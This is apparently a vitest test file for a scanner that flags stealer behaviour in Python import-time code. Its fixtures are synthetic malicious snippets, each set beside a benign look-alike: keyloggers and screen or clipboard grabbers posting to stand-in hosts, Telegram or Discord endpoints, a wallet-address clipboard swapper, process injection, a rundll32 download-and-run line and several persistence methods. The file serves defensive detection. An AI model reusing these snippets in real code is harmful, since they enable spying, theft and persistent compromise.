/**
 * What a stealer's import-time code does besides downloading and running
 * (src/checks/lib/python-spying.ts through readImportCode): captured screen, clipboard or keys
 * sent; a clipboard wallet swap; process injection and DLLs run through rundll32; writes where
 * code runs again later. Synthetic shapes of published stealers, each beside a look-alike of the
 * ordinary library code that has the capability alone and must stay clean.
 */
import { describe, expect, it } from 'vitest';
import { readImportCode } from '../../src/checks/lib/import-code.js';

const flagsOf = (text: string): string[] => readImportCode(text).flags;

describe('captured screen, clipboard or keys sent', () => {
  it.each([
    ['the clipboard in a request', 'import pyperclip, requests\nrequests.post("https://x.test/c", data={"c": pyperclip.paste()})\n'],
    ['the clipboard by name', 'import pyperclip, requests\ntext = pyperclip.paste()\nbody = {"clip": text}\nrequests.post("https://x.test/c", json=body)\n'],
    [
      'a screenshot saved, then its file posted',
      'import os, tempfile, requests\nfrom PIL import ImageGrab\nshot = ImageGrab.grab()\npath = os.path.join(tempfile.gettempdir(), "s.png")\nshot.save(path)\nrequests.post("https://x.test/u", files={"f": open(path, "rb")})\n',
    ],
    ['a screenshot to a named file, the file posted', 'import pyautogui, requests\npyautogui.screenshot("s.png")\nwith open("s.png", "rb") as f:\n    requests.post("https://x.test/u", files={"f": f})\n'],
    ['a chained save, posted', 'import requests\nfrom PIL import ImageGrab\nImageGrab.grab().save("grab.png")\nrequests.post("https://x.test/u", data=open("grab.png", "rb").read())\n'],
    [
      'keys logged, sent to a Telegram bot',
      'import requests\nfrom pynput import keyboard\nlog = []\ndef on_press(key):\n    log.append(str(key))\n    if len(log) > 50:\n        requests.post("https://api.telegram.org/bot123:abc/sendMessage", data={"chat_id": 1, "text": "".join(log)})\nkeyboard.Listener(on_press=on_press).start()\n',
    ],
    [
      'a screenshot and a Discord webhook',
      'import requests, mss\nWEBHOOK = "https://discord.com/api/webhooks/1234567/abcdef"\nwith mss.mss() as sct:\n    sct.shot(output="m.png")\nrequests.post(WEBHOOK, files={"file": open("m.png", "rb")})\n',
    ],
    ['a screenshot module under another name', 'import requests as _r\nfrom PIL import ImageGrab as _g\n_i = _g.grab()\n_i.save("_s.png")\n_r.post("https://x.test/u", files={"f": open("_s.png", "rb")})\n'],
    ['the clipboard module under another name', 'import pyperclip as pc, requests\nrequests.post("https://x.test/c", data=pc.paste())\n'],
    ['the clipboard function imported by name', 'from pyperclip import paste as v\nimport requests\nrequests.post("https://x.test/c", data=v())\n'],
    [
      'keys logged to a file through logging, the file mailed',
      'import logging, smtplib\nfrom pynput import keyboard\nLOG = "/tmp/.k.log"\nlogging.basicConfig(filename=LOG, level=logging.DEBUG)\ndef on_press(key):\n    logging.info(str(key))\nkeyboard.Listener(on_press=on_press).start()\ns = smtplib.SMTP("smtp.x.test", 587)\ns.sendmail("a@x.test", "b@x.test", open(LOG).read())\n',
    ],
    ['keys appended to a file, the file posted', 'import requests, keyboard\ndef cb(e):\n    with open("keys.txt", "a") as f:\n        f.write(e.name)\nkeyboard.on_press(cb)\nrequests.post("https://x.test/k", files={"k": open("keys.txt", "rb")})\n'],
    ['each key posted from the hook\'s callback to a plain domain', 'import requests\nfrom pynput import keyboard\ndef on_press(key):\n    requests.post("https://collector.x.test/k", data={"k": str(key)})\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n'],
    ['each key posted from a keyboard.hook callback', 'import keyboard, requests\ndef cb(event):\n    requests.get("https://collector.x.test/k", params={"k": event.name})\nkeyboard.hook(cb)\n'],
    ['the clipboard to a public IP address', 'import urllib.request, pyperclip\nclip = pyperclip.paste()\nurllib.request.urlopen("http://203.0.113.7/c", data=clip.encode())\n'],
  ])('%s', (_, text) => {
    expect(flagsOf(text)).toContain('exfiltration');
  });

  it.each([
    ['a clipboard helper beside an unrelated request', 'import pyperclip, requests\ndef paste():\n    return pyperclip.paste()\ndef latest():\n    return requests.get("https://x.test/version").json()\n'],
    ['a screenshot tool that uploads its own report', 'import requests\nfrom PIL import ImageGrab\ndef snap(p):\n    img = ImageGrab.grab()\n    img.save(p)\ndef report(payload):\n    requests.post("https://x.test/api", json=payload)\n'],
    ['a progress bar that talks to a Telegram bot, capturing nothing', 'import requests\ndef send(token, chat, text):\n    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id": chat, "text": text})\n'],
    ['an aliased screenshot module beside an unrelated request', 'import requests as _r\nfrom PIL import ImageGrab as _g\ndef snap():\n    return _g.grab()\n_r.get("https://x.test/version")\n'],
    ['a key hook beside a settings file written and an unrelated request', 'import requests, keyboard\nkeyboard.on_press(print)\nwith open("settings.json", "w") as f:\n    f.write("{}")\nrequests.post("https://x.test/k", json={"v": 1})\n'],
    ['a key hook whose callback only checks for updates elsewhere', 'import requests, keyboard\ndef cb(event):\n    print(event.name)\ndef update():\n    requests.get("https://x.test/version")\nkeyboard.hook(cb)\n'],
    ['a key listener with no network', 'from pynput import keyboard\ndef on_press(key):\n    print(key)\nkeyboard.Listener(on_press=on_press).start()\n'],
  ])('%s stays clean', (_, text) => {
    expect(flagsOf(text)).toEqual([]);
  });
});

describe('imported names that are an object\'s own properties', () => {
  it('network modules: `import constructor as c`, `from toString import get` beside requests, no crash', () => {
    expect(flagsOf('import requests\nimport constructor as c\nc.get("https://x.test")\n')).toEqual([]);
    expect(flagsOf('import requests\nfrom toString import get\nexec(get("https://x.test"))\n')).toEqual([]);
  });

  it('capture modules: `import constructor as x`, `from __proto__ import paste` read as ordinary names, no crash', () => {
    const text = 'import constructor as c, toString as t\nfrom __proto__ import paste as p\nfrom hasOwnProperty import copy\nimport requests\nrequests.post("https://x.test", data=c.grab())\nr"[13][a-km-zA-HJ-NP-Z1-9]"\ncopy(p())\n';
    expect(flagsOf(text)).toEqual([]);
  });
});

describe('a wallet address swapped in the clipboard', () => {
  it('reads the clipboard, matches an address, writes another', () => {
    const text = 'import re, pyperclip\nMINE = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"\nwhile True:\n    data = pyperclip.paste()\n    if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", data):\n        pyperclip.copy(MINE)\n';
    expect(flagsOf(text)).toEqual(['clipboard-swap']);
  });

  it('the clipboard module under another name', () => {
    const text = 'import re, pyperclip as _p\nwhile True:\n    _d = _p.paste()\n    if re.match(r"^0x[a-fA-F0-9]{40}$", _d):\n        _p.copy("0x52908400098527886E0F7030069857D2E4169EE7")\n';
    expect(flagsOf(text)).toEqual(['clipboard-swap']);
  });

  it.each([
    ['a clipboard tool (read and write, no address pattern)', 'import pyperclip\ndef upper():\n    pyperclip.copy(pyperclip.paste().upper())\n'],
    ['an address validator that reads the clipboard only', 'import re, pyperclip\ndef pasted_address():\n    a = pyperclip.paste()\n    return a if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", a) else None\n'],
  ])('%s stays clean', (_, text) => {
    expect(flagsOf(text)).toEqual([]);
  });
});

describe('process injection', () => {
  it.each([
    ['allocate, write, remote thread', 'from ctypes import windll\nk = windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, pid)\naddr = k.VirtualAllocEx(h, 0, len(sc), 0x3000, 0x40)\nk.WriteProcessMemory(h, addr, sc, len(sc), None)\nk.CreateRemoteThread(h, None, 0, addr, None, 0, None)\n'],
    ['write and an APC', 'import ctypes\nk = ctypes.windll.kernel32\nk.WriteProcessMemory(h, addr, sc, len(sc), None)\nk.QueueUserAPC(addr, thread, 0)\n'],
    ['write and NtCreateThreadEx', 'import ctypes\nntdll = ctypes.windll.ntdll\nk32.WriteProcessMemory(h, addr, buf, n, None)\nntdll.NtCreateThreadEx(ctypes.byref(t), 0x1FFFFF, None, h, addr, None, 0, 0, 0, 0, None)\n'],
    ['a DLL run by rundll32', 'import subprocess, os\ndll = os.path.join(os.path.dirname(__file__), "x.dll")\nsubprocess.Popen(["rundll32.exe", dll + ",Start"])\n'],
  ])('%s', (_, text) => {
    expect(flagsOf(text)).toContain('process-injection');
  });

  it('a batch script that downloads a file and has rundll32 run it is download-and-run', () => {
    expect(flagsOf("s = '@echo off\\ncurl -o t.b -L \"http://x.test/a\"\\nrundll32 t.b,Run'\n")).toContain('download-and-run');
  });

  it.each([
    ['a memory reader', 'import ctypes\nk = ctypes.windll.kernel32\nk.VirtualQueryEx(h, addr, ctypes.byref(mbi), ctypes.sizeof(mbi))\nk.ReadProcessMemory(h, addr, buf, n, None)\n'],
    ['the names in strings and prototypes only', 'NAMES = ["WriteProcessMemory", "CreateRemoteThread", "VirtualAllocEx"]\n'],
    ['a write into its own process', 'import ctypes\nk = ctypes.windll.kernel32\nk.WriteProcessMemory(k.GetCurrentProcess(), addr, buf, n, None)\n'],
  ])('%s stays clean', (_, text) => {
    expect(flagsOf(text)).toEqual([]);
  });
});

describe('persistence', () => {
  it.each([
    ['appending to the shell startup file', 'import os\nrc = os.path.expanduser("~/.bashrc")\nwith open(rc, "a") as f:\n    f.write("python3 -m x &\\n")\n'],
    [
      'a Windows Run key',
      'import winreg, sys\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)\n',
    ],
    [
      'a copy into the Startup folder',
      'import os, shutil, sys\nstartup = os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup")\nshutil.copy(sys.argv[0], os.path.join(startup, "u.exe"))\n',
    ],
    ['a systemd user unit', 'from pathlib import Path\nunit = Path.home() / ".config/systemd/user/u.service"\nunit.write_text("[Service]\\nExecStart=python3 -m x\\n")\n'],
    ['a crontab line', 'import os\nos.system(\'(crontab -l; echo "@reboot python3 -m x") | crontab -\')\n'],
    ['a scheduled task', 'import subprocess\nsubprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "u", "/tr", "python -m x"])\n'],
  ])('%s', (_, text) => {
    expect(flagsOf(text)).toContain('persistence');
  });

  it.each([
    ['reading the shell startup file', 'import os\nrc = os.path.expanduser("~/.bashrc")\nwith open(rc) as f:\n    lines = f.read()\n'],
    ['reading a Run key', 'import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")\nv = winreg.QueryValueEx(key, "x")\n'],
    ['docs naming .bashrc beside an unrelated write', '"""Add the completion line to your ~/.bashrc."""\nwith open("out.txt", "w") as f:\n    f.write("x")\n'],
    ['a profile attribute', 'with open(self.profile, "w") as f:\n    f.write(data)\n'],
  ])('%s stays clean', (_, text) => {
    expect(flagsOf(text)).toEqual([]);
  });
});

describe('steganography', () => {
  it('code revealed from an image and run is exec-decoded', () => {
    expect(flagsOf('from stegano import lsb\nsecret = lsb.reveal("cover.png")\nexec(secret)\n')).toContain('exec-decoded');
  });
});
